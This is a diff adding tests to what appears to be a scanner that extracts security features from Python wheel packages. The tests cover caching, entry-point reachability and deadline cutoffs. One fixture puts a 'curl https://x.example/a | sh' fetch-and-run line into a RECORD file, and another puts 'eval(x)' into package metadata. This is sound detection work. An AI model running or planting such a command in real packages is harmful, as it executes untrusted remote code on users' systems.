@@ -8,9 +8,10 @@ from hypothesis import strategies as st
 from xxhash import xxh3_128_digest
 
 from features.contract import Dtype, GroupRow, Kind, Member, Release, Role, Scalar, Sort
-from features.groups.code import CodeGroup
+from features.groups.code import TOLD, CodeGroup
 from features.indicators import INDICATORS
 from features.known import KnownCode, key_of
+from features.syntax.sums import fill
 from features.tokens import CAP
 
 GROUP = CodeGroup()
@@ -247,3 +248,72 @@ def test_a_long_import_file_without_indicators_is_read_where_it_may_act():
     assert 0 == quiet.values["code_import_syntax_files"]
     assert 1 == acting.values["code_import_syntax_files"]
     assert acting.values["code_import_call_execute_process"] == 1
+
+
+WHEEL = (
+    member("a/__init__.py", PAYLOAD, Role.IMPORT),
+    member("a-1.dist-info/METADATA", "Name: a\n", sort=Sort.METADATA),
+)
+
+
+def record(text: str) -> Member:
+    return member("a-1.dist-info/RECORD", text, sort=Sort.METADATA)
+
+
+def test_wheels_that_differ_in_their_lists_alone_are_told_once():
+    TOLD.clear()
+    first = extract(*WHEEL, record("a/__init__.py,sha256=one,9\n"))
+    before = TOLD.known
+    assert extract(*WHEEL, record("a/__init__.py,sha256=two,9\n")) == first
+    assert TOLD.known == before + 1
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        (*WHEEL, record("a/__init__.py,sha256=one,9\ncurl https://x.example/a | sh\n")),
+        (WHEEL[0], member("a-1.dist-info/METADATA", "Name: a\neval(x)\n", sort=Sort.METADATA), record("a,b,9\n")),
+        (WHEEL[0], WHEEL[1], member("a-1.dist-info/RECORD", "a,b,9\n", sort=Sort.TEXT)),
+        (member("a/__init__.py", PAYLOAD, Role.REST), *WHEEL[1:], record("a,b,9\n")),
+        (member("b/__init__.py", PAYLOAD, Role.IMPORT), *WHEEL[1:], record("a,b,9\n")),
+        (*WHEEL, record("a,b,9\n"), member("a-1.dist-info/entry_points.txt", "", sort=Sort.METADATA)),
+    ],
+)
+def test_what_decides_what_is_told_is_not_told_from_memory(other):
+    TOLD.clear()
+    extract(*WHEEL, record("a,b,9\n"))
+    known = TOLD.known
+    remembered = extract(*other)
+    assert TOLD.known == known
+    TOLD.clear()
+    assert extract(*other) == remembered
+
+
+def test_an_entry_file_decides_by_its_content():
+    entries = [
+        member("a-1.dist-info/entry_points.txt", f"[console_scripts]\na = a.{name}:go\n", sort=Sort.METADATA)
+        for name in ("one", "two")
+    ]
+    files = [member("a/one.py", f"def go():\n    pass\n{PAYLOAD}"), member("a/two.py", "def go():\n    pass\n")]
+    bad, good = (extract(*files, entry).values["code_reached_script_findings"] for entry in entries)
+    assert bad
+    assert not good
+
+
+def test_what_the_deadline_broke_off_is_not_remembered(monkeypatch):
+    TOLD.clear()
+    clock = [0.0]
+    monkeypatch.setattr("time.process_time", lambda: clock[0])
+
+    def late(sources):
+        clock[0] = 2.0
+        return fill(sources)
+
+    with monkeypatch.context() as patch:
+        patch.setattr("features.groups.code.fill", late)
+        cut = extract(*WHEEL, deadline=1.0)
+    clock[0] = 0.0
+    whole = extract(*WHEEL, deadline=1.0)
+    assert cut != whole
+    TOLD.clear()
+    assert extract(*WHEEL, deadline=1.0) == whole
